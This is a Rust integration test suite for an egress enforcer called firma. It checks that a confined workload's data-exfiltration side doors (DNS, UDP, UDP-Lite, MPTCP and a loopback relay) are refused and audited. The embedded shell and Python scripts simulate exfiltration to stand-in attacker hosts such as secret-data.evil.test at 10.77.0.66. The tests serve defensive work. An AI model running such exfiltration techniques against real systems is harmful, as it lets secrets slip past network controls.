//! The side doors of an enforced workload, tried as an attacker would with plain tools (dig,
//! Python sockets, curl): DNS to a resolver of the attacker's on port 5353, UDP to an arbitrary
//! port (IPv4, IPv6, v4-mapped, connected and not), UDP-Lite, MPTCP, a loopback forwarder on
//! 127.0.0.1:7777 relaying to the attacker's server, UDP to that loopback port; then all again
//! after `kill -9` of the sidecar. Run twice: under `firma run --user nobody` with the default
//! configuration, and with `firma sidecar` in transparent mode plus `firma sidecar attach` (the
//! workload as `nobody` too). Each test runs in its own network namespace; every server is the
//! test's own (addresses on `lo` of that namespace), a Python process outside the cgroup that
//! logs every datagram, connection and byte it receives.
//!
//! Asserts, per attempt: it was made and refused (EPERM), the attacker's servers received 0
//! bytes, the audit holds aggregated `refused` events with the reason and the counts (the dig
//! attempt by its own destination), the kernel counters moved (`/metrics` in sidecar mode);
//! and in the same run the legitimate calls work: DNS through the guard, an allowed HTTPS
//! call, an allowed loopback port, an allowed UDP exception. After `kill -9`, refusals made
//! while the sidecar was down are audited by the restarted sidecar. Also: a `--user nobody`
//! child cannot open (so cannot lock) the state directory's lock file, and another `firma run`
//! starts while it runs. Needs root + BPF; prints SKIP otherwise.

use firma_testing::config::Mode;
use firma_testing::confine::Confine;
use firma_testing::kernel::{DST_V4, TestCgroup, TestPins, in_fresh_netns};
use firma_testing::process::Process;
use firma_testing::sidecar::{Deployment, Settings, Sidecar};
use firma_testing::upstream::Upstream;
use firma_testing::{assert_eventually, firma_bin, free_dual_port, text, unique};
use serde_json::Value;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::Duration;

const ATTACKER: &str = "10.77.0.66";
const ATTACKER6: &str = "fd77::66";
const RESOLVER: &str = "10.77.0.53";
const STATSD: &str = "10.77.0.70:8125";
const CANARY: &str = "sk-canary-side-doors-3c1e";
const KEY_VAR: &str = "FIRMA_TEST_SIDE_DOORS_KEY";
const AGENT: &str = "tenant-acme";

/// The test's servers, outside any tagged cgroup. One log line per event: `NAME accept` or
/// `NAME <bytes>`. The attacker's: `attacker-dns` (answers any A query: a leak would resolve),
/// `attacker-udp4/6`, `attacker-udplite4/6`, `attacker-tcp`; the legitimate ones: `resolver`
/// (what the DNS guard forwards to), `statsd` (the allowed UDP exception), `forwarder`
/// (127.0.0.1:7777, relays everything to `attacker-tcp`), `local-ok` (127.0.0.1:7778, allowed).
const PY_SERVERS: &str = r#"
import socket, struct, sys, threading
log = open(sys.argv[1], 'a', buffering=1)
def note(name, what):
    log.write(f'{name} {what}\n')
def dns_answer(q):
    i = 12
    while q[i] != 0:
        i += 1 + q[i]
    end = i + 5
    name = []
    j = 12
    while q[j] != 0:
        name.append(q[j + 1:j + 1 + q[j]].decode('latin1')); j += 1 + q[j]
    ip = '10.77.0.2' if '.'.join(name).lower() == 'api.openai.com' else '10.77.0.99'
    qtype, = struct.unpack('>H', q[i + 1:i + 3])
    hdr = q[:2] + b'\x81\x80' + struct.pack('>HHHH', 1, 1 if qtype == 1 else 0, 0, 0)
    body = q[12:end]
    if qtype == 1:
        body += b'\xc0\x0c' + struct.pack('>HHIH', 1, 1, 60, 4) + socket.inet_aton(ip)
    return hdr + body
def fam(host):
    return socket.AF_INET6 if ':' in host else socket.AF_INET
def udp(name, host, port, proto=0, dns=False):
    try:
        s = socket.socket(fam(host), socket.SOCK_DGRAM, proto)
    except OSError:
        note(name, 'unsupported'); return
    s.bind((host, port))
    def run():
        while True:
            d, peer = s.recvfrom(65535)
            note(name, len(d))
            if dns:
                try:
                    s.sendto(dns_answer(d), peer)
                except Exception as e:
                    note(name, f'error-{e}')
    threading.Thread(target=run, daemon=True).start()
def tcp(name, host, port, greet=b'', relay=None):
    s = socket.socket(fam(host), socket.SOCK_STREAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((host, port)); s.listen(64)
    def conn(c):
        with c:
            note(name, 'accept')
            up = socket.create_connection(relay, timeout=5) if relay else None
            if greet:
                c.sendall(greet)
            while True:
                d = c.recv(65536)
                if not d:
                    break
                note(name, len(d))
                if up:
                    up.sendall(d)
    def run():
        while True:
            c, _ = s.accept()
            threading.Thread(target=conn, args=(c,), daemon=True).start()
    threading.Thread(target=run, daemon=True).start()
udp('attacker-dns', '10.77.0.66', 5353, dns=True)
udp('attacker-udp4', '10.77.0.66', 9999)
udp('attacker-udp6', 'fd77::66', 9999)
udp('attacker-udplite4', '10.77.0.66', 9999, proto=136)
udp('attacker-udplite6', 'fd77::66', 9999, proto=136)
tcp('attacker-tcp', '10.77.0.66', 8081)
udp('resolver', '10.77.0.53', 53, dns=True)
udp('statsd', '10.77.0.70', 8125)
tcp('forwarder', '127.0.0.1', 7777, relay=('10.77.0.66', 8081))
tcp('local-ok', '127.0.0.1', 7778, greet=b'LOCAL-OK\n')
print('READY', file=sys.stderr, flush=True)
threading.Event().wait()
"#;

/// The agent: every side door, then the legitimate calls. One line per case:
/// `CASE ok [reply]`, `CASE err ERRNO` or `CASE timeout`.
const PY_AGENT: &str = r#"
import errno, socket
A4, A6 = '10.77.0.66', 'fd77::66'
def case(name, f):
    try:
        r = f()
        print(name, 'ok' if r is None else f'ok {r}', flush=True)
    except socket.timeout:
        print(name, 'timeout', flush=True)
    except OSError as e:
        print(name, 'err', errno.errorcode.get(e.errno, e.errno), flush=True)
def fam(host):
    return socket.AF_INET6 if ':' in host else socket.AF_INET
def sendto(host, port, proto=0, f=None):
    s = socket.socket(f or fam(host), socket.SOCK_DGRAM, proto)
    s.sendto(b'SECRET-UDP', (host, port))
def connected(host, port, proto=0):
    s = socket.socket(fam(host), socket.SOCK_DGRAM, proto)
    s.connect((host, port))
    s.send(b'SECRET-UDP')
def tcp(host, port, proto=0, payload=b'SECRET-TCP'):
    s = socket.socket(fam(host), socket.SOCK_STREAM, proto)
    s.settimeout(5)
    s.connect((host, port))
    s.sendall(payload)
    return s.recv(100).decode().strip() or None
case('udp4_sendto', lambda: sendto(A4, 9999))
case('udp4_connected', lambda: connected(A4, 9999))
case('udp6_sendto', lambda: sendto(A6, 9999))
case('udp6_connected', lambda: connected(A6, 9999))
case('udp_v4mapped_sendto', lambda: sendto('::ffff:' + A4, 9999, f=socket.AF_INET6))
case('udplite4_sendto', lambda: sendto(A4, 9999, 136))
case('udplite4_connected', lambda: connected(A4, 9999, 136))
case('udplite6_sendto', lambda: sendto(A6, 9999, 136))
case('loopback_forwarder', lambda: tcp('127.0.0.1', 7777))
case('loopback_forwarder_v6', lambda: tcp('::ffff:127.0.0.1', 7777))
case('loopback_udp', lambda: sendto('127.0.0.1', 7777))
case('mptcp_attacker', lambda: tcp(A4, 8081, 262))
case('statsd_allowed', lambda: sendto('10.77.0.70', 8125))
case('local_ok_allowed', lambda: tcp('127.0.0.1', 7778, payload=b'hi'))
"#;

/// The workload's script (runs as nobody): phase 1 with the sidecar up, then waits for the
/// test's `go2` (the test kills the sidecar first), phase 2. `step`/`go` files are the
/// handshake with the test (the dig attempt is audited before anything else happens).
const CHILD_SH: &str = r#"
D="$1"
w() { while [ ! -e "$D/$1" ]; do sleep 0.05; done; }
dig +time=2 +tries=1 -p 5353 @10.77.0.66 secret-data.evil.test > "$D/dig1.txt" 2>&1
echo "exit $?" >> "$D/dig1.txt"
touch "$D/step1"; w go1
dig +time=2 +tries=1 @10.77.0.66 secret-data.evil.test > "$D/dig53.txt" 2>&1
getent hosts api.openai.com > "$D/getent.txt" 2>&1
curl -sS --max-time 10 -o /dev/null -w 'STATUS %{http_code}\n' -H 'Authorization: Bearer agent-own-key' https://api.openai.com/v1/models > "$D/curl1.txt" 2>&1
python3 "$D/agent.py" > "$D/phase1.txt" 2>&1
touch "$D/phase1.done"; w go2
dig +time=2 +tries=1 -p 5353 @10.77.0.66 secret-data.evil.test > "$D/dig2.txt" 2>&1
curl -sS --max-time 5 -o /dev/null -w 'STATUS %{http_code}\n' https://api.openai.com/v1/models > "$D/curl2.txt" 2>&1
python3 "$D/agent.py" > "$D/phase2.txt" 2>&1
touch "$D/phase2.done"
"#;

/// The namespace, its servers and the workload's files.
struct World {
    dir: tempfile::TempDir,
    /// Writable by the workload (nobody): scripts, results, handshake files.
    work: PathBuf,
    hosts: PathBuf,
    resolv: PathBuf,
    up: Upstream,
    _servers: Process,
    log: PathBuf,
}

impl World {
    fn new() -> Self {
        for (v, a) in [("-4", ATTACKER), ("-4", RESOLVER), ("-4", "10.77.0.70")] {
            firma_testing::kernel::sh(&["ip", v, "addr", "add", &format!("{a}/32"), "dev", "lo"]);
        }
        firma_testing::kernel::sh(&[
            "ip",
            "-6",
            "addr",
            "add",
            &format!("{ATTACKER6}/128"),
            "dev",
            "lo",
        ]);
        let dir = tempfile::tempdir().unwrap();
        std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
        let work = dir.path().join("work");
        std::fs::create_dir(&work).unwrap();
        std::fs::set_permissions(&work, std::fs::Permissions::from_mode(0o777)).unwrap();
        std::fs::write(work.join("agent.py"), PY_AGENT).unwrap();
        std::fs::write(work.join("child.sh"), CHILD_SH).unwrap();
        let up = Upstream::start_at(
            dir.path(),
            &["api.openai.com"],
            format!("{DST_V4}:443").parse().unwrap(),
        );
        let hosts = dir.path().join("hosts");
        std::fs::write(&hosts, "127.0.0.1 localhost\n::1 localhost\n").unwrap();
        let resolv = dir.path().join("resolv.conf");
        std::fs::write(
            &resolv,
            format!("nameserver {RESOLVER}\noptions timeout:2 attempts:1\n"),
        )
        .unwrap();
        let log = dir.path().join("servers.log");
        std::fs::write(dir.path().join("servers.py"), PY_SERVERS).unwrap();
        let mut cmd = Command::new("python3");
        cmd.arg(dir.path().join("servers.py")).arg(&log);
        let mut servers = Process::spawn(cmd).expect("servers");
        servers
            .wait_for("READY", Duration::from_secs(20))
            .expect("servers ready");
        Self {
            dir,
            work,
            hosts,
            resolv,
            up,
            _servers: servers,
            log,
        }
    }

    /// `sh -c` prefix: private mount namespace with the test's hosts and resolv.conf.
    fn mounts(&self) -> String {
        Confine::hosts(&self.hosts)
            .resolv(&self.resolv)
            .script_prefix()
    }

    fn file(&self, name: &str) -> String {
        std::fs::read_to_string(self.work.join(name)).unwrap_or_default()
    }

    fn touch(&self, name: &str) {
        std::fs::write(self.work.join(name), "").unwrap();
    }

    fn wait_for(&self, name: &str, what: &str) {
        let path = self.work.join(name);
        assert_eventually(Duration::from_secs(90), what, || path.exists());
    }

    /// Lines the servers logged for `name`.
    fn served(&self, name: &str) -> Vec<String> {
        let prefix = format!("{name} ");
        std::fs::read_to_string(&self.log)
            .unwrap_or_default()
            .lines()
            .filter(|l| l.starts_with(&prefix))
            .map(String::from)
            .collect()
    }

    /// Everything any attacker server (and the loopback forwarder) logged, "unsupported"
    /// aside: must stay empty.
    fn attacker_saw(&self) -> Vec<String> {
        std::fs::read_to_string(&self.log)
            .unwrap_or_default()
            .lines()
            .filter(|l| l.starts_with("attacker-") || l.starts_with("forwarder "))
            .filter(|l| !l.ends_with(" unsupported"))
            .map(String::from)
            .collect()
    }
}

impl Drop for World {
    /// A failed assertion must not leave the workload waiting for the test forever.
    fn drop(&mut self) {
        for f in ["go1", "go2"] {
            let _ = std::fs::write(self.work.join(f), "");
        }
    }
}

/// `CASE -> result` from an agent run.
fn results(text: &str) -> std::collections::HashMap<String, String> {
    text.lines()
        .filter_map(|l| l.split_once(' '))
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .collect()
}

/// Phase results: every side door refused with EPERM (UDP-Lite may be absent from the kernel;
/// MPTCP is redirected to the sidecar like TCP, never direct), the allowed exceptions work.
fn check_agent(w: &World, phase: &str, sidecar_up: bool) {
    let out = w.file(&format!("{phase}.txt"));
    let r = results(&out);
    let get = |k: &str| {
        r.get(k)
            .cloned()
            .unwrap_or_else(|| panic!("{phase}: no {k} result in:\n{out}"))
    };
    for k in [
        "udp4_sendto",
        "udp4_connected",
        "udp6_sendto",
        "udp6_connected",
        "udp_v4mapped_sendto",
        "loopback_forwarder",
        "loopback_forwarder_v6",
        "loopback_udp",
    ] {
        assert_eq!(get(k), "err EPERM", "{phase} {k}:\n{out}");
    }
    for k in ["udplite4_sendto", "udplite4_connected", "udplite6_sendto"] {
        let v = get(k);
        assert!(
            v == "err EPERM" || v == "err EPROTONOSUPPORT",
            "{phase} {k} = {v}:\n{out}"
        );
    }
    assert_eq!(get("statsd_allowed"), "ok", "{phase}:\n{out}");
    assert_eq!(get("local_ok_allowed"), "ok LOCAL-OK", "{phase}:\n{out}");
    if !sidecar_up {
        // The TCP redirect goes to a dead listener.
        assert_eq!(get("mptcp_attacker"), "err ECONNREFUSED", "{phase}:\n{out}");
    }
}

/// The `refused` events of `cgroup` in `audit`.
fn refused_events(audit: &[Value], cgroup: &str) -> Vec<Value> {
    audit
        .iter()
        .filter(|e| e["event"] == "refused" && e["workload"]["cgroup_path"] == cgroup)
        .cloned()
        .collect()
}

/// Sum of `refused.count` for a reason and protocol.
fn refused_count(events: &[Value], reason: &str, protocol: &str) -> u64 {
    events
        .iter()
        .filter(|e| e["decision"]["reason"] == reason && e["refused"]["protocol"] == protocol)
        .map(|e| e["refused"]["count"].as_u64().unwrap_or(0))
        .sum()
}

fn read_audit(path: &Path) -> Vec<Value> {
    firma_testing::audit::lines(path)
        .iter()
        .map(|l| firma_testing::audit::json(l))
        .collect()
}

/// The dig attempt to the attacker's resolver on 5353 is audited by its own destination.
fn dig_audited(audit: &Path, cgroup: &str) -> bool {
    refused_events(&read_audit(audit), cgroup).iter().any(|e| {
        e["decision"]["reason"] == "UdpRefused"
            && e["refused"]["sample"]["destination"] == format!("{ATTACKER}:5353")
    })
}

/// What phase 1 must leave in the audit: every kind of attempt, aggregated, with its reason;
/// the legitimate calls decided.
fn check_phase1_audit(w: &World, audit: &Path, cgroup: &str) {
    let udplite = !w
        .served("attacker-udplite4")
        .iter()
        .any(|l| l.ends_with("unsupported"));
    assert_eventually(Duration::from_secs(20), "phase 1 refusals audited", || {
        let ev = refused_events(&read_audit(audit), cgroup);
        // dig (1) + sendto/connect v4, v6, v4-mapped (5) + phase 2 nothing yet.
        refused_count(&ev, "UdpRefused", "udp") >= 6
            && (!udplite || refused_count(&ev, "UdpRefused", "udplite") >= 3)
            && refused_count(&ev, "LoopbackRefused", "tcp") >= 2
            && refused_count(&ev, "LoopbackRefused", "udp") >= 1
    });
    let ev = refused_events(&read_audit(audit), cgroup);
    for e in &ev {
        assert_eq!(e["decision"]["outcome"], "DENY", "{e}");
        assert!(e["refused"]["first_seen"].is_string() && e["refused"]["last_seen"].is_string());
        assert!(e["workload"]["agent_id"].is_string(), "{e}");
    }
    assert!(
        ev.iter()
            .any(|e| e["decision"]["reason"] == "LoopbackRefused"
                && e["refused"]["sample"]["destination"]
                    .as_str()
                    .is_some_and(|d| d.ends_with(":7777"))),
        "{ev:?}"
    );
    let audit_all = read_audit(audit);
    assert!(
        audit_all.iter().any(|e| e["event"] == "decision"
            && e["decision"]["outcome"] == "ALLOW"
            && e["envelope"]["intent"]["resource"]["host"] == "api.openai.com"),
        "the allowed HTTPS call is not in the audit"
    );
}

/// Phase-1 checks shared by both modes: the client side and the servers.
fn check_phase1(w: &World) {
    let dig = w.file("dig1.txt");
    assert!(
        !dig.contains("ANSWER SECTION") && !dig.contains("exit 0"),
        "dig to the attacker's resolver on 5353 answered:\n{dig}"
    );
    let dig53 = w.file("dig53.txt");
    assert!(
        dig53.contains("status: NXDOMAIN"),
        "the same name on port 53 is not NXDOMAIN from the guard:\n{dig53}"
    );
    let getent = w.file("getent.txt");
    assert!(
        getent.contains(DST_V4),
        "DNS via the guard failed: {getent}"
    );
    assert!(
        w.served("resolver").iter().any(|l| !l.ends_with("accept")),
        "the guard forwarded nothing to the resolver"
    );
    let curl = w.file("curl1.txt");
    assert!(curl.contains("STATUS 200"), "allowed HTTPS call: {curl}");
    check_agent(w, "phase1", true);
    assert!(
        !w.served("statsd").is_empty(),
        "the allowed UDP exception received nothing"
    );
    assert!(
        w.served("local-ok").iter().any(|l| l.ends_with("accept")),
        "the allowed loopback port was not reached"
    );
    let saw = w.attacker_saw();
    assert!(saw.is_empty(), "the attacker received: {saw:?}");
}

fn check_phase2(w: &World) {
    let dig = w.file("dig2.txt");
    assert!(!dig.contains("ANSWER SECTION"), "dig after kill -9:\n{dig}");
    let curl = w.file("curl2.txt");
    assert!(!curl.contains("STATUS 200"), "HTTPS after kill -9: {curl}");
    check_agent(w, "phase2", false);
    let saw = w.attacker_saw();
    assert!(
        saw.is_empty(),
        "after kill -9 the attacker received: {saw:?}"
    );
}

fn kill9(pid: u32) {
    let _ = nix::sys::signal::kill(
        nix::unistd::Pid::from_raw(pid as i32),
        nix::sys::signal::Signal::SIGKILL,
    );
}

/// Reaps `c`; its stderr went to `err_file` (a pipe would be held open by the workload, which
/// outlives a killed firma).
fn wait_child(mut c: Child, err_file: &Path) -> String {
    let _ = c.wait();
    std::fs::read_to_string(err_file).unwrap_or_default()
}

fn err_to(path: &Path) -> Stdio {
    Stdio::from(std::fs::File::create(path).expect("stderr file"))
}

/// `firma run --user nobody` with the default configuration (plus the flags that open one UDP
/// exception and one loopback port); `kill -9` of firma between the phases.
#[test]
fn side_doors_closed_under_firma_run() {
    if !in_fresh_netns("side_doors_closed_under_firma_run") {
        return;
    }
    let w = World::new();
    let state = w.dir.path().join("state");
    let audit = w.dir.path().join("audit.jsonl");
    let mut cmd = Command::new("unshare");
    cmd.args(["--mount", "--propagation", "private", "--", "sh", "-c"])
        .arg(format!("{} && exec \"$@\"", w.mounts()))
        .arg("sh")
        .arg(firma_bin())
        .arg("run")
        .arg("--state-dir")
        .arg(&state)
        .arg("--audit")
        .arg(&audit)
        .arg("--upstream-ca")
        .arg(&w.up.ca_path)
        .args(["--user", "nobody"])
        .arg("--credential")
        .arg(format!("api.openai.com={KEY_VAR}"))
        .args(["--allow-udp", STATSD, "--allow-loopback", "7778"])
        .args(["--", "sh"])
        .arg(w.work.join("child.sh"))
        .arg(&w.work)
        .env(KEY_VAR, CANARY)
        .env_remove("RUST_LOG")
        .env_remove("SUDO_UID")
        .stdout(Stdio::null())
        .stderr(err_to(&w.dir.path().join("firma.err")));
    let firma = cmd.spawn().expect("firma run");
    let pid = firma.id();
    w.wait_for("step1", "the dig attempt");
    // The cgroup of the run (the summary names it too), from the first refused event.
    let cgroup = format!("/firma-run-{pid}-");
    let run_cgroup = || -> Option<String> {
        read_audit(&audit)
            .iter()
            .filter(|e| e["event"] == "refused")
            .filter_map(|e| e["workload"]["cgroup_path"].as_str().map(String::from))
            .find(|c| c.starts_with(&cgroup))
    };
    assert_eventually(Duration::from_secs(20), "the dig attempt audited", || {
        run_cgroup().is_some_and(|cg| dig_audited(&audit, &cg))
    });
    let cg = run_cgroup().unwrap();
    w.touch("go1");
    w.wait_for("phase1.done", "phase 1");
    check_phase1(&w);
    check_phase1_audit(&w, &audit, &cg);

    kill9(pid);
    let err = wait_child(firma, &w.dir.path().join("firma.err"));
    w.touch("go2");
    w.wait_for("phase2.done", "phase 2");
    check_phase2(&w);
    assert!(!err.contains("panicked"), "{err}");

    // Another run starts (the state lock is free, the dead run's leftovers are collected).
    let out = Command::new(firma_bin())
        .args(["run", "--state-dir"])
        .arg(&state)
        .args(["--user", "nobody", "--", "true"])
        .env_remove("SUDO_UID")
        .output()
        .unwrap();
    assert!(out.status.success(), "next run: {}", text(&out.stderr));
}

/// `firma sidecar` in transparent mode, the cgroup attached with `firma sidecar attach`, the
/// workload as nobody; `kill -9` of the sidecar between the phases, then a restart audits
/// what was refused while it was down.
#[test]
fn side_doors_closed_under_firma_sidecar() {
    if !in_fresh_netns("side_doors_closed_under_firma_sidecar") {
        return;
    }
    let w = World::new();
    let pins = TestPins::new();
    let cg = TestCgroup::top(&unique("firma-sd")).expect("cgroup");
    let extra = format!(
        "[[sidecar.credentials]]\nhost = \"api.openai.com\"\nmode = \"basic\"\nheader = \"Authorization\"\nprefix = \"Bearer \"\nvalue_from_env = \"{KEY_VAR}\"\n\n[sidecar.admin]\nlisten_addr = \"127.0.0.1:0\"\n\n[sidecar.dns]\nupstream = [\"{RESOLVER}:53\"]\n"
    );
    let mut settings = Settings {
        upstream_hosts: Vec::new(),
        extra,
        ..Settings::default()
    };
    let d = Deployment::new(Some(&w.up), &settings);
    settings.mode = Mode::Transparent {
        port: free_dual_port(),
        pin_dir: pins.dir.clone(),
        control_socket: d.root().join("run/sidecar.sock"),
        allow_ephemeral_pins: None,
    };
    d.write(Some(&w.up), &settings);
    // The side-door keys of [sidecar.interceptor.transparent].
    let toml = std::fs::read_to_string(&d.config).unwrap();
    let toml = toml.replacen(
        "[sidecar.interceptor.transparent]\n",
        &format!(
            "[sidecar.interceptor.transparent]\nallow_udp = [\"{STATSD}\"]\nallow_loopback = [\"7778\"]\n"
        ),
        1,
    );
    std::fs::write(&d.config, toml).unwrap();
    let start = || -> Sidecar { d.start(&[(KEY_VAR, CANARY)]) };
    let mut sc = start();
    let rel = cg.rel_path();
    let out = firma_testing::firma(&[
        "sidecar",
        "-c",
        d.config.to_str().unwrap(),
        "attach",
        "--cgroup",
        &rel,
        "--agent-id",
        AGENT,
        "--session-id",
        "s1",
    ]);
    assert!(out.status.success(), "attach: {}", text(&out.stderr));
    let series = [
        "firma_sidecar_ebpf_udp_refused_total",
        "firma_sidecar_ebpf_loopback_refused_total",
    ];
    let before: Vec<f64> = series.iter().map(|s| sc.metric(s).unwrap_or(0.0)).collect();
    // The Firma CA where nobody can read it.
    let ca = w.work.join("firma-ca.crt");
    std::fs::copy(d.ca_cert(), &ca).unwrap();
    std::fs::set_permissions(&ca, std::fs::Permissions::from_mode(0o644)).unwrap();

    let child = Command::new("unshare")
        .args(["--mount", "--propagation", "private", "--", "sh", "-c"])
        .arg(format!(
            "{} && echo $$ > '{}/cgroup.procs' && exec setpriv --reuid=65534 --regid=65534 --clear-groups -- \"$@\"",
            w.mounts(),
            cg.dir.display()
        ))
        .arg("sh")
        .arg("sh")
        .arg(w.work.join("child.sh"))
        .arg(&w.work)
        .env("CURL_CA_BUNDLE", &ca)
        .env("SSL_CERT_FILE", &ca)
        .stdout(Stdio::null())
        .stderr(err_to(&w.dir.path().join("workload.err")))
        .spawn()
        .expect("workload");
    let audit_path = d.audit_path.clone();
    w.wait_for("step1", "the dig attempt");
    assert_eventually(Duration::from_secs(20), "the dig attempt audited", || {
        dig_audited(&audit_path, &rel)
    });
    w.touch("go1");
    w.wait_for("phase1.done", "phase 1");
    check_phase1(&w);
    check_phase1_audit(&w, &audit_path, &rel);
    for (name, b) in series.iter().zip(before) {
        let a = sc.metric(name).unwrap_or(0.0);
        assert!(a >= b + 2.0, "{name}: {b} -> {a}");
    }

    // kill -9: the pinned programs keep every door closed, and keep tallying.
    let audited_before = refused_count(
        &refused_events(&read_audit(&audit_path), &rel),
        "UdpRefused",
        "udp",
    );
    sc.process.kill();
    w.touch("go2");
    w.wait_for("phase2.done", "phase 2");
    check_phase2(&w);
    let err = wait_child(child, &w.dir.path().join("workload.err"));
    assert!(!err.contains("Traceback"), "{err}");
    // Restarted, the sidecar audits the refusals made while it was down (6 UDP: dig + 5).
    let _sc = start();
    assert_eventually(
        Duration::from_secs(20),
        "refusals made while down audited",
        || {
            refused_count(
                &refused_events(&read_audit(&audit_path), &rel),
                "UdpRefused",
                "udp",
            ) >= audited_before + 6
        },
    );
}

/// Item 8: a `--user nobody` child can neither open the state directory's lock file (so it
/// cannot take LOCK_EX and block other runs), nor list the directory or read a key; while it
/// runs, another `firma run` on the same state directory starts and finishes.
#[test]
fn state_directory_closed_to_the_child() {
    if !in_fresh_netns("state_directory_closed_to_the_child") {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    let state = dir.path().join("state");
    let work = dir.path().join("work");
    std::fs::create_dir(&work).unwrap();
    std::fs::set_permissions(&work, std::fs::Permissions::from_mode(0o777)).unwrap();
    // An older firma left the lock file 0644: it must be closed again.
    std::fs::create_dir(&state).unwrap();
    std::fs::write(state.join(".lock"), "").unwrap();
    std::fs::set_permissions(state.join(".lock"), std::fs::Permissions::from_mode(0o644)).unwrap();
    let script = format!(
        r#"
import fcntl, os, time
S, W = {state:?}, {work:?}
def t(name, f):
    try:
        f(); print(name, 'ok', flush=True)
    except OSError as e:
        print(name, 'err', e.errno, flush=True)
def lock():
    fd = os.open(S + '/.lock', os.O_RDONLY)
    fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
t('lock', lock)
t('list', lambda: os.listdir(S))
t('read_key', lambda: open(S + '/audit.key').read())
t('read_runs', lambda: os.listdir(S + '/runs'))
open(W + '/tried', 'w').close()
while not os.path.exists(W + '/go'):  # waits for the test's signal file
    time.sleep(0.05)
"#
    );
    std::fs::write(work.join("child.py"), script).unwrap();
    let run = |args: &[&str]| {
        let mut c = Command::new(firma_bin());
        c.args(["run", "--state-dir"])
            .arg(&state)
            .args(["--user", "nobody"])
            .args(args)
            .env_remove("SUDO_UID")
            .stdout(Stdio::piped())
            .stderr(Stdio::piped());
        c
    };
    let first = run(&["--", "python3", work.join("child.py").to_str().unwrap()])
        .spawn()
        .unwrap();
    assert_eventually(Duration::from_secs(60), "the child tried", || {
        work.join("tried").exists()
    });
    let meta = std::fs::metadata(state.join(".lock")).unwrap();
    assert_eq!(meta.permissions().mode() & 0o777, 0o600);
    assert_eq!(
        std::fs::metadata(&state).unwrap().permissions().mode() & 0o777,
        0o711
    );
    assert_eq!(
        std::fs::metadata(state.join("runs"))
            .unwrap()
            .permissions()
            .mode()
            & 0o777,
        0o700
    );
    // While the child runs, another run starts and finishes.
    let mut second = run(&["--", "true"]).spawn().unwrap();
    assert_eventually(
        Duration::from_secs(60),
        "a second firma run finished",
        || second.try_wait().ok().flatten().is_some(),
    );
    let second = second.wait_with_output().unwrap();
    assert!(second.status.success(), "{}", text(&second.stderr));
    std::fs::write(work.join("go"), "").unwrap();
    let out = first.wait_with_output().unwrap();
    let stdout = text(&out.stdout);
    for (k, v) in [
        ("lock", "err 13"),
        ("list", "err 13"),
        ("read_key", "err 13"),
        ("read_runs", "err 13"),
    ] {
        assert!(
            stdout.contains(&format!("{k} {v}")),
            "{k}: expected {v}:\n{stdout}\n{}",
            text(&out.stderr)
        );
    }
}
